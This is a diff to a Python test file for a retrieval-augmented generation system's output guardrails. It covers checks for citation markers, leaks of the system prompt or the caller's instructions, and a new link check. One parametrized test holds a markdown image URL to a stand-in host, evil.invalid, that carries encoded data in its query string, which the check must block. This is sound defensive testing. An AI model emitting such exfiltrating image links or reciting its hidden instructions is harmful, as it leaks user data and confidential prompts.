@@ -10,6 +10,7 @@ from guardrails.output import OutputRails
 from guardrails.output_checks import LeakCheck
 from guardrails.policy import OutputPolicy, Policy
 from rag.prompt import load_templates
+from rag.release import SentenceSettings
 from rag.types import Check, Hit, Passage, RequestSettings, Verdict
 
 SETTINGS = RequestSettings(model="demo", prompt="quote")
@@ -44,7 +45,7 @@ async def validate(
 
 async def test_a_supported_sentence_passes_every_check(rails: OutputRails) -> None:
     checks = await validate(rails, "Replicas scale on ongoing requests. [1] ")
-    assert list(checks) == ["characters", "leaks", "citations", "groundedness"]
+    assert list(checks) == ["characters", "leaks", "links", "citations", "groundedness"]
     assert {c.action for c in checks.values()} == {"pass"}
     assert checks["groundedness"].score == 1.0
     assert checks["citations"].score == 1.0
@@ -53,8 +54,16 @@ async def test_a_supported_sentence_passes_every_check(rails: OutputRails) -> No
 async def test_a_citation_without_a_passage_is_flagged_or_blocked(rails: OutputRails) -> None:
     checks = await validate(rails, "Replicas scale on ongoing requests. [1][7]")
     assert (checks["citations"].action, checks["citations"].detail, checks["citations"].score) == ("flag", "[7]", 0.5)
-    checks = await validate(rails, "Replicas scale. [0]", settings=by(citations={"action": "block"}))
-    assert checks["citations"].action == "block"
+    for marker in ("[0]", "[1, 9]", "[1;9]", "[2-7]", "[1–3]", "【9】", "[1-999]"):
+        checks = await validate(rails, f"Replicas scale. {marker}", settings=by(citations={"action": "block"}))
+        assert checks["citations"].action == "block"
+
+
+@pytest.mark.parametrize(
+    "text", ["Replicas scale. [1, 2] [1-2] 【2】", "It is in [0, 1].", '{"n": [7, 9]}', "n = [7, 9]"]
+)
+async def test_what_cites_nothing_wrong_passes(rails: OutputRails, text: str) -> None:
+    assert (await validate(rails, text))["citations"].action == "pass"
 
 
 async def test_an_index_in_code_is_no_citation(rails: OutputRails) -> None:
@@ -108,6 +117,49 @@ async def test_the_prompt_in_use_is_not_recited(prompted: OutputRails) -> None:
         assert (await validate(prompted, text, settings=own))["leaks"].action == "block"
 
 
+ORDERS = "You are the clerk of a shop. Returns are taken within thirty days. " + " ".join(
+    f"rule{n}x" for n in range(20)
+)
+
+
+@pytest.mark.parametrize(
+    ("sentence", "before", "action"),
+    [
+        ("You answer questions from the numbered passages below.", "", "block"),
+        ("from the numbered passages below, and", "Here it is: You answer questions ", "block"),
+        (ORDERS, "", "block"),
+        (ORDERS[60:], ORDERS[:60], "block"),
+        ("Returns are taken within thirty days.", "You are the clerk of a shop. ", "pass"),
+    ],
+)
+async def test_a_leak_may_begin_before_its_sentence_and_be_the_callers_orders(
+    prompted: OutputRails, sentence: str, before: str, action: str
+) -> None:
+    asked = by(leaks={"system_messages": True}).policy
+    settings = SentenceSettings("demo", "quote", before=before, orders=ORDERS, policy=asked)
+    assert (await validate(prompted, sentence, settings=settings))["leaks"].action == action
+    off = replace(settings, policy=by(leaks={"prompts": False}).policy)
+    assert (await validate(prompted, sentence, settings=off))["leaks"].action == "pass"
+
+
+@pytest.mark.parametrize(
+    ("sentence", "action", "detail"),
+    [
+        ("See [this page](https://docs.invalid/scaling) of it.", "pass", ""),
+        ("![x](https://evil.invalid/p.png?d=aGk)", "block", "image, link"),
+        ("tps://evil.invalid/p.png)", "block", "image, link"),
+        ("See https://other.invalid/ for more.", "flag", "link"),
+    ],
+)
+async def test_an_address_from_nowhere_does_not_leave(
+    rails: OutputRails, sentence: str, action: str, detail: str
+) -> None:
+    hits = [Hit(Passage("a", "d", "Replicas.", url="https://docs.invalid/scaling"), 1.0)]
+    settings = SentenceSettings("demo", "quote", before="![x](ht" if sentence.startswith("tps") else "")
+    found = (await validate(rails, sentence, hits, settings))["links"]
+    assert (found.action, found.detail) == (action, detail)
+
+
 def test_the_handbook_can_be_quoted() -> None:
     leaks = Leaks([], PROMPTS, LeakCheck().words)
     pages = {path.name: path.read_text() for path in (Path(__file__).parents[2] / "docs").glob("*.md")}
@@ -134,7 +186,7 @@ async def test_a_broken_check_refuses(rails: OutputRails, monkeypatch: pytest.Mo
     assert {c.name for c in verdict.checks if c.action == "error"} == {"citations", "groundedness"}
 
 
-OFF = {name: {"action": "off"} for name in ("leaks", "citations", "groundedness")}
+OFF = {name: {"action": "off"} for name in ("leaks", "links", "citations", "groundedness")}
 
 
 async def test_checks_can_be_switched_off(rails: OutputRails) -> None:
